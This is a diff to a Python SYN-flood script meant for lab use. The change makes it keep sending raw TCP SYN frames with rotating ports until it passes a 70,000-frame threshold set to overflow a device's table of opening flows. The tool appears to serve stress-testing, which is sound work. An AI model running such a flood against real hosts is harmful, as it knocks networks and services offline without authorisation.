@@ -2,7 +2,8 @@
 """Run at a place of a lab: syn-flood.py DEVICE DESTINATION_MAC SECONDS HEX...
 
 Sends TCP SYN frames like HEX (Ethernet, IPv4 or IPv6 without options) as fast as one core can, every one with another
-source port, after a round of them with another destination port. Prints how many it sent.
+source port, after a round of them with another destination port. Goes on for SECONDS, and on a slow machine until
+FRAMES_MIN are sent, at most a minute more. Prints how many it sent.
 """
 
 import socket
@@ -11,6 +12,7 @@ import sys
 import time
 
 ETHERNET, IPV4, IPV6 = 14, 20, 40
+FRAMES_MIN = 70_000  # more than the table of opening flows holds
 
 
 def with_ports(frame, source_port, destination_port):
@@ -37,7 +39,14 @@ sent = 0
 destination_port = 8080
 print("flooding", flush=True)
 end = time.monotonic() + seconds
-while time.monotonic() < end:
+
+
+def is_over():
+    now = time.monotonic()
+    return now > end and (sent >= FRAMES_MIN or now > end + 60)
+
+
+while not is_over():
     for template in templates:
         for source_port in range(1024, 65536):
             try:
@@ -45,7 +54,7 @@ while time.monotonic() < end:
                 sent += 1
             except OSError:
                 pass  # the device's queue is full: that is the flood
-            if sent % 256 == 0 and time.monotonic() > end:
+            if sent % 256 == 0 and is_over():
                 break
     destination_port += 1
 print(sent, flush=True)
